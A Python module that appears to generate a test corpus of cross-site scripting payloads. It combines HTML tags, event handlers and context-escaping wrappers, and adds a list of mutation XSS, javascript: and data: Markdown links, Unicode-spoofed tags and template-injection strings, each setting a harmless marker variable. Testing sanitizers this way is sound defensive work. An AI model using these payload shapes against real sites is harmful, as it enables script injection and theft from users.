"""More than a thousand texts that want to run, for every door through which a text comes."""

TAGS = """img src=x|svg|body|iframe srcdoc=x|details open|video src=x|input autofocus|math|a href=x|style"""
EVENTS = "onerror onload onfocus ontoggle onbegin onmouseover onanimationstart"
AROUND = r"""{} "><{}> '><{}> </textarea>{} </script>{} javascript:hacked=1//{} `${{{}}}` &lt;{}&gt;
    <script>hacked=1</script>{} <![CDATA[{}]]> {{{{{}}}}} <template>{}</template> %3C{}%3E \x3c{} <b>{}</b>"""

# ruff: noqa: E501
# What becomes dangerous only where it is parsed twice, joined, shortened, or read as Markdown or as an address.
MUTATING = [
    "<svg></p><style><a id='</style><img src=1 onerror=hacked=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "<svg><animate attributeName=href values=javascript:hacked=1 /><a><text x=9>x</text></a></svg>",
    "<script>/*<img src=x onerror=hacked=1>*/</script ><scr<script>ipt>hacked=1</scr</script>ipt>",
    "[x](javascript:hacked=1) [x](JaVaScRiPt&colon;hacked=1) [x](\tjavascript:hacked=1) <javascript:hacked=1>",
    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) [x](vbscript:hacked=1) [x](//evil.example)",
    '![x](x"onerror="hacked=1) [x](https://a.example "t" onmouseover=hacked=1) <https://a"onclick=hacked=1>',
    "[x]: javascript:hacked=1\n\n[x] ```html\n<img src=x onerror=hacked=1>\n``` | <b> | \n|-|\n| <img src=x onerror=hacked=1> |",
    "\u202e<img src=x onerror=hacked=1>\u202c \ufeff<svg/onload=hacked=1>",
    "https://a.example/<img src=x onerror=hacked=1> www.a.example'onclick='hacked=1 a@b.example\"onfocus=hacked=1",
    "\uff1cimg src=x onerror=hacked=1\uff1e \u02bcscript\u02be <ſvg onload=hacked=1> <img/src=x\u00a0onerror=hacked=1>",
    "__proto__ constructor {{hacked=1}} {{constructor.constructor('hacked=1')()}} ${hacked=1} <%= hacked=1 %> {% hacked %}",
    "--><!--><img src=x onerror=hacked=1>--!><img src=x onerror=hacked=1> ]]><?xml?><x:script>hacked=1</x:script>",
]
PAYLOADS = [
    shape.format(f"<{tag} {event}=hacked=1>")
    for tag in TAGS.split("|")
    for event in EVENTS.split()
    for shape in AROUND.split()
] + MUTATING
